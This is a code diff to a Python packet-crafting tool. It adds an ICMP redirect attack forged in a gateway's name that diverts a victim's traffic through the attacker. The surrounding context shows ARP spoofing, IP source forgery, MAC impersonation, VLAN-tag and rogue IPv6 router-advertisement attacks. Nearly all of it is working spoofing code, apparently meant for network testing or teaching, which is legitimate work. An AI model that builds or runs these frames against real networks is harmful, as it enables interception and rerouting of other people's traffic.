@@ -57,6 +57,17 @@ def neighbour_advertisement(target, lladdr):
     return struct.pack("!BBHI", 136, 0, 0, 0x60000000) + target + b"\x02\x01" + lladdr
 
 
+def icmp(payload):
+    return payload[:2] + struct.pack("!H", checksum(payload)) + payload[4:]
+
+
+def redirect(way, victim, to):
+    """There is a shorter way to `to`; behind it an answer to an echo request that the victim
+    would have sent: of others the kernel looks for the socket."""
+    inner = ipv4(1, victim, to, icmp(struct.pack("!BBHHH", 0, 0, 0, 7, 1)))
+    return icmp(struct.pack("!BBH", 5, 1, 0) + way + inner)
+
+
 def router_advertisement(lladdr):
     head = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
     prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + v6("fd00:bad::")
@@ -74,6 +85,9 @@ def frames(attack, own, o):
         return [ethernet(BROADCAST, own, 0x0806, arp(1, own, v4(o["ip"]), b"\0" * 6, v4(o["victim"])))]
     if attack == "ip":  # in somebody else's name
         return [ethernet(mac(o["to"]), own, 0x0800, udp(v4(o["ip"]), v4(o["victim"]), int(o["port"]), b"forged"))]
+    if attack == "redirect":  # in the gateway's name: what is for dst goes by us
+        lie = redirect(v4(o["way"]), v4(o["victim"]), v4(o["dst"]))
+        return [ethernet(mac(o["to"]), own, 0x0800, ipv4(1, v4(o["ip"]), v4(o["victim"]), lie))]
     if attack == "mac":  # a bridge then sends to us what is for the other
         return [ethernet(BROADCAST, mac(o["mac"]), 0x0806, arp(1, mac(o["mac"]), v4(o["ip"]), b"\0" * 6, v4(o["victim"])))]
     if attack == "tagged":  # in a VLAN, where rules may not look
